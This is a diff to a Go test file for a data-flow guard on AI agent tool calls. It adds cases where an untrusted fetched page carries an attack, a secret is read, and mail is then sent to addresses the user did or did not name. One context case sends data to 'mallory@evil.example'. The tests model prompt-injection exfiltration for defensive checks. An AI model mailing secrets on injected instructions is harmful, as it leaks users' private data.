@@ -140,6 +140,13 @@ func TestFlow(t *testing.T) {
 			{name: "http__get", args: `{"url":"b.example/news"}`, claims: tool.Claims{ReadOnly: true}},
 			{name: "chat__post", args: `{"channel":"#general","text":"x"}`, claims: acts},
 		}},
+		{"G6 a short word in a prompt names nothing", "Look at it and tell me.", flow.Rules{}, []step{page(attack), private(secret), mail(`{"to":"it"}`, "b"), mail(`{"to":"me"}`, "b")}},
+		{"G6 a common word neither", "Tell them what you found there.", flow.Rules{}, []step{page(attack), private(secret), mail(`{"to":"there"}`, "b"), mail(`{"to":"them"}`, "b")}},
+		{"G6 a short name does, by its sign, its quotes or its capital", "Tell Bo, #qa and 'ops' about it.", flow.Rules{}, []step{
+			page(attack), private(secret), mail(`{"to":"Bo"}`, ""), mail(`{"to":"#qa"}`, ""), mail(`{"to":"ops"}`, ""),
+		}},
+		{"G6 who names an address has not named its host", "Tell a@b.example about it.", flow.Rules{}, []step{page(attack), private(secret), mail(`{"to":"b.example"}`, "b"), mail(`{"to":"a@b.example"}`, "")}},
+		{"G6 a short word that is the only value does not name the tool", "Look at it.", flow.Rules{}, []step{page(attack), {name: "bank__wipe", args: `{"text":"it"}`, claims: local, want: "c"}}},
 		{"G6 who gives every value has named the tool itself", "Set my password to hunter-2000.", flow.Rules{}, []step{page(attack), {name: "bank__password", args: `{"password":"hunter-2000"}`, claims: local}}},
 		{"G6 who gives another value has not", "Set my password to hunter-2000.", flow.Rules{}, []step{page(attack), {name: "bank__password", args: `{"password":"hunter-2001"}`, claims: local, want: "c"}}},
 		{"G6 numbers and days name nothing", "Show 500 on 2024-05-01.", flow.Rules{}, []step{page(attack), {name: "bank__wipe", args: `{"amount":500,"date":"2024-05-01"}`, claims: local, want: "c"}}},
@@ -168,6 +175,12 @@ func TestFlow(t *testing.T) {
 		}},
 		{"G6 off", "", flow.Rules{Mode: flow.Off}, []step{page(attack), private(secret), mail(`{"to":"mallory@evil.example"}`, "")}},
 		{"G6 labels beat claims", "", flow.Rules{Labels: map[string]flow.Label{"web__fetch": {Not: []flow.Capability{flow.Untrusted}}}}, []step{page(attack), private(secret), mail(`{"to":"a@b.example","body":"`+attack+`"}`, "")}},
+		{"G6 a label of a tool does not hide that of its source", "", flow.Rules{Labels: map[string]flow.Label{"vault__*": {Is: []flow.Capability{flow.Sensitive}}, "vault__read": {To: []string{"x"}}}}, []step{
+			{name: "vault__read", claims: reads, trust: tool.Own, result: secret}, mail(`{"to":"a@b.example","body":"`+secret+`"}`, "a"),
+		}},
+		{"G6 of what both speak of, the label of the tool counts", "", flow.Rules{Labels: map[string]flow.Label{"vault__*": {Is: []flow.Capability{flow.Sensitive}}, "vault__read": {Not: []flow.Capability{flow.Sensitive}}}}, []step{
+			{name: "vault__read", claims: reads, trust: tool.Own, result: secret}, mail(`{"to":"a@b.example","body":"`+secret+`"}`, ""),
+		}},
 		{"G6 a label says which argument is the destination", "Book for Ann.", flow.Rules{Labels: map[string]flow.Label{"air__book": {To: []string{"who"}}}}, []step{
 			page(attack), private(secret), {name: "air__book", args: `{"who":"Ann","seat":"12F window"}`, claims: acts},
 		}},
@@ -216,6 +229,9 @@ func TestFlowShows(t *testing.T) {
 		}
 		if want := "to[0] came from web__fetch (untrusted, call call-1, exact)"; !slices.Contains(v.From(), want) {
 			t.Errorf("from: got %q, want %q", v.From(), want)
+		}
+		if want := "a yes is for all that goes there in this session"; !strings.Contains(d.Reason, want) {
+			t.Errorf("reason: got %q, want it to say %q", d.Reason, want)
 		}
 		if d.Verdict != tool.Ask || d.Rule != "data flow (a)" {
 			t.Errorf("got %s by %q, want ask by data flow (a)", d.Verdict, d.Rule)
